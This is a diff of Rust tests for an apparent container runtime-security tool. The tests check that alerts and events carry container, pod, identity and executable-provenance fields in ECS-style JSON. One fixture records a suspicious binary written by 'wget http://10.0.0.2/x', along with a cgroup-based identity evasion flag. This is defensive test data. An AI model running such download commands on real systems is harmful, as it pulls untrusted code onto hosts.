@@ -48,7 +48,8 @@ fn an_alert_in_ecs() {
         ("/file/path", json!("/tmp/x")),
         ("/host/hostname", json!("node-1")),
         ("/host/os/kernel", json!("6.18.5")),
-        ("/tidewaiter/schema", json!(1)),
+        ("/tidewaiter/schema", json!(2)),
+        ("/tidewaiter/container", json!({"verified": true, "role": "workload", "phase": "steady"})),
         ("/tidewaiter/images", json!(["/usr/bin/curl"])),
         ("/tidewaiter/lineage/1/executable", json!("/usr/bin/containerd-shim-runc-v2")),
         (
@@ -61,7 +62,15 @@ fn an_alert_in_ecs() {
     ] {
         assert_eq!(document.pointer(pointer), Some(&expected), "{pointer}");
     }
-    for absent in ["/orchestrator", "/tidewaiter/truncated", "/tidewaiter/pending", "/tidewaiter/coverage"] {
+    for absent in [
+        "/orchestrator",
+        "/tidewaiter/truncated",
+        "/tidewaiter/pending",
+        "/tidewaiter/coverage",
+        "/tidewaiter/executable",
+        "/tidewaiter/identity",
+        "/tidewaiter/process",
+    ] {
         assert_eq!(document.pointer(absent), None, "{absent}");
     }
 }
@@ -116,6 +125,79 @@ fn a_pod_is_an_orchestrator_resource() {
         "resource": {"type": "pod", "name": "web-0", "id": "u-1"},
     });
     assert_eq!(document["orchestrator"], expected);
+    assert_eq!(document["tidewaiter"].get("pod"), None, "the API has not spoken");
+}
+
+#[test]
+fn what_the_api_tells_of_a_pod_stands_beside_it() {
+    let document = value(&Message::Alert(Box::new(sample::in_pod())));
+    let expected = json!({
+        "type": "pod", "name": "web-65747dc769-pjztg", "id": "4cad64d0-7a36-452a-8a08-bd3a694cdad5",
+        "label": ["app=web", "tier=front"], "parent": {"type": "Deployment", "name": "web"},
+    });
+    assert_eq!(document["orchestrator"]["resource"], expected);
+    let expected = json!({"owner": "Deployment/web", "service_account": "shop", "node": "node-1"});
+    assert_eq!(document["tidewaiter"]["pod"], expected);
+}
+
+#[test]
+fn identity_has_the_names_that_rules_use() {
+    let document = value(&Message::Alert(Box::new(sample::stranger())));
+    let id = sample::container().id;
+    for (pointer, expected) in [
+        ("/container/image/hash", json!({"all": ["sha256:0123456789ab"]})),
+        (
+            "/tidewaiter/container",
+            json!({
+                "verified": false, "phase": "interactive", "nested": ["inner", "c0ffee".repeat(11)[..64]],
+                "image": {"id": "sha256:ba9876543210"},
+            }),
+        ),
+        (
+            "/tidewaiter/executable",
+            json!({
+                "memfd": false, "deleted": false, "upper_layer": true, "written": true,
+                "writer": {
+                    "pid": 4200, "executable": "/usr/bin/wget", "command_line": "wget http://10.0.0.2/x",
+                    "time": "2026-11-21T08:00:01.242000Z",
+                },
+            }),
+        ),
+        ("/tidewaiter/identity", json!({"cgroup": "host", "mount": id, "trick": "cgroup_left"})),
+        ("/tidewaiter/process", json!({"login_user": {"id": "1000"}, "terminal": "pts/3"})),
+    ] {
+        assert_eq!(document.pointer(pointer), Some(&expected), "{pointer}");
+    }
+}
+
+/// What alerts and events both tell stands at the same place in both.
+#[test]
+fn alerts_and_events_agree_on_identity() {
+    let alert = sample::stranger();
+    let event = crate::event::Event {
+        process: alert.process.clone(),
+        container: alert.container.clone(),
+        phase: alert.phase,
+        ..sample::event()
+    };
+    let alert = value(&Message::Alert(Box::new(alert)));
+    let time = "2026-11-21T12:03:14.281042123Z".parse().unwrap();
+    let event = encode(&EventDocument::new(&event, time, 1, &sample::origin()));
+    let event: Value = serde_json::from_str(&event).unwrap();
+    for (pointer, is_whole) in [
+        ("/container/image/hash", true),
+        ("/tidewaiter/container", false),
+        ("/tidewaiter/executable", true),
+        ("/tidewaiter/identity", true),
+        ("/tidewaiter/process/terminal", true),
+        ("/tidewaiter/process/login_user", true),
+    ] {
+        let (one, other) = (alert.pointer(pointer), event.pointer(pointer));
+        assert!(one.is_some() && (one == other || !is_whole), "{pointer}: {one:?} {other:?}");
+    }
+    for name in ["verified", "phase", "nested", "image"] {
+        assert_eq!(alert["tidewaiter"]["container"][name], event["tidewaiter"]["container"][name], "{name}");
+    }
 }
 
 #[test]
